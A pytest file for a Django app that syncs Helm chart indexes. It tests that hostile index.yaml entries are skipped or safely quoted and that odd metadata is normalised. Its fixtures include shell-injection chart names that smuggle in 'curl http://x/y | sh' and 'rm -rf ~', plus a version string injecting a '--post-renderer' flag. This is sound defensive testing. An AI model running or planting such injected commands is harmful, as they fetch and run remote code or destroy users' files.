"""Hostile index.yaml entries fail one entry at most, never a page or a whole sync.

A real nginx serves each index; the sync reads it as a worker would. What Helm's own index
loader refuses (a name with a path in it, a version Helm's semver parser rejects) is
refused here too, with its reason on the run; what Helm would read is read with Helm's
types; a version is kept exactly as written.
"""

from __future__ import annotations

import json

import pytest
from django.db import connection
from django.urls import reverse

from charts.models import Chart, ChartVersion, SyncRun
from tests.charts.helpers import helm_source, sync

pytestmark = pytest.mark.django_db

GOOD = "  good:\n  - {name: good, version: 1.0.0, urls: [good-1.0.0.tgz], digest: abc}\n"


def index_with(entries: str) -> bytes:
    return ("apiVersion: v1\nentries:\n" + GOOD + entries).encode()


def synced(helm_repo, entries: str) -> SyncRun:
    helm_repo.write_index(index_with(entries))
    return sync(helm_source(helm_repo))


def test_an_entry_whose_name_or_version_helm_refuses_is_skipped_and_the_rest_indexed(
    helm_repo,
):
    run = synced(
        helm_repo,
        '  evil:\n  - name: "evil; curl http://x/y | sh #"\n    version: 1.0.0\n'
        '  evilver:\n  - name: evilver\n    version: "1.0.0 --post-renderer ./x"\n',
    )

    assert run.status == SyncRun.Status.SUCCEEDED, run.error
    assert set(ChartVersion.objects.values_list("chart__name", "version")) == {("good", "1.0.0")}
    assert "Skipped 'evil 1.0.0'" in run.warnings and "is not a plain chart name" in run.warnings
    assert "Skipped 'evilver 1.0.0 --post-renderer ./x'" in run.warnings
    assert "is not a semantic version" in run.warnings


def test_versions_are_kept_exactly_as_written(helm_repo):
    run = synced(
        helm_repo,
        '  quoted:\n  - {name: quoted, version: "1.10.0"}\n'
        "  short:\n  - {name: short, version: v2.1}\n",
    )

    assert run.status == SyncRun.Status.SUCCEEDED
    versions = set(ChartVersion.objects.values_list("chart__name", "version"))
    assert {("quoted", "1.10.0"), ("short", "v2.1")} <= versions


def test_a_version_written_as_a_number_or_boolean_is_kept_as_its_text(helm_repo):
    # YAML reads 1.10 as the number 1.1 and true as a boolean; the text written is kept,
    # so the install command names the version that exists.
    run = synced(
        helm_repo,
        "  numeric:\n  - {name: numeric, version: 1.10}\n"
        "  truthy:\n  - {name: truthy, version: true}\n",
    )

    versions = set(ChartVersion.objects.values_list("chart__name", "version"))
    assert ("numeric", "1.10") in versions
    assert not any(chart == "truthy" for chart, _ in versions)  # "true" is no version
    assert "Skipped 'truthy true'" in run.warnings


@pytest.mark.parametrize(
    ("fields", "check"),
    [
        ("sources: 5", lambda m: m["sources"] == ["5"]),
        ("keywords: {a: b}", lambda m: "keywords" not in m),
        ('description: "a\\0b\\x01c"', lambda m: m["description"] == "abc"),
        ("description: !!binary aGVsbG8=", lambda m: m["description"] == "aGVsbG8="),
        ("appVersion: .nan", lambda m: m["appVersion"] == ".nan"),
        ("appVersion: 1e400", lambda m: m["appVersion"] == "1e400"),
        ("created: 2024-01-01T00:00:00Z", lambda m: m["created"] == "2024-01-01T00:00:00Z"),
        (
            "maintainers: [bob, {name: Ann, email: 5}]",
            lambda m: m["maintainers"] == [{"name": "Ann", "email": "5"}],
        ),
        ("annotations: {a: [1], b: 2}", lambda m: m["annotations"] == {"b": "2"}),
        ("deprecated: yes", lambda m: m["deprecated"] is True),
        ("dependencies: 5", lambda m: "dependencies" not in m),
        ("unknownField: {x: 1}", lambda m: "unknownField" not in m),
    ],
)
def test_odd_metadata_is_normalised_to_helms_types(helm_repo, fields, check):
    run = synced(helm_repo, f"  odd:\n  - name: odd\n    version: 1.0.0\n    {fields}\n")

    assert run.status == SyncRun.Status.SUCCEEDED, run.error
    meta = ChartVersion.objects.get(chart__name="odd").metadata
    assert check(meta), meta
    json.dumps(meta, allow_nan=False)  # JSON-safe, whatever the database


def test_pages_render_entries_with_odd_metadata(helm_repo, admin_client):
    synced(
        helm_repo,
        "  odd:\n  - name: odd\n    version: 1.0.0\n    sources: 5\n    home: [1]\n"
        '    description: "nul\\0here"\n    maintainers: 7\n    keywords: x\n',
    )
    chart = Chart.objects.get(name="odd")

    store = admin_client.get(reverse("charts:chart_list"))
    page = admin_client.get(reverse("charts:chart_detail", args=[chart.pk]))

    assert store.status_code == 200 and page.status_code == 200
    assert "nulhere" in page.content.decode()


def test_a_nul_in_a_description_does_not_fail_the_sync_on_postgresql(helm_repo):
    run = synced(helm_repo, '  nul:\n  - {name: nul, version: 1.0.0, description: "a\\0b"}\n')

    assert run.status == SyncRun.Status.SUCCEEDED, (connection.vendor, run.error)
    assert ChartVersion.objects.get(chart__name="nul").description == "ab"


def test_a_moved_archive_is_found_at_its_new_url(helm_repo):
    source = helm_source(helm_repo)
    entry = "  moved:\n  - {{name: moved, version: 1.0.0, digest: abc, urls: [{url}]}}\n"
    helm_repo.write_index(index_with(entry.format(url="old/moved-1.0.0.tgz")))
    sync(source)
    helm_repo.write_index(index_with(entry.format(url="new/moved-1.0.0.tgz")))

    run = sync(source)

    version = ChartVersion.objects.get(chart__name="moved")
    assert run.updated == 1
    assert version.archive_url.endswith("/new/moved-1.0.0.tgz")


def test_a_refused_entry_does_not_hide_what_was_indexed_for_it_before(helm_repo):
    source = helm_source(helm_repo)
    helm_repo.write_index(index_with("  web:\n  - {name: web, version: 1.0.0}\n"))
    sync(source)
    helm_repo.write_index(index_with("  web:\n  - {name: web, version: 1.0.0, type: plugin}\n"))

    run = sync(source)

    assert "neither application nor library" in run.warnings
    assert ChartVersion.objects.get(chart__name="web").removed_upstream_at is None


def test_install_lines_quote_every_value_so_they_run_helm_and_nothing_else(helm_repo, admin_client):
    import html
    import re
    import shlex

    # Helm's loader takes this name (it holds no "/"), so Wharf shows it: quoted.
    synced(helm_repo, '  "evil; rm -rf ~ #":\n  - {name: "evil; rm -rf ~ #", version: 1.0.0}\n')
    chart = Chart.objects.get(name="evil; rm -rf ~ #")

    page = admin_client.get(reverse("charts:chart_detail", args=[chart.pk])).content.decode()

    line = html.unescape(re.search(r'id="helm-install"><code>([^<]*)</code>', page).group(1))
    assert shlex.split(line) == [
        "helm", "install", "evil; rm -rf ~ #", "evil; rm -rf ~ #",
        "--repo", helm_repo.url, "--version", "1.0.0",
    ]  # fmt: skip
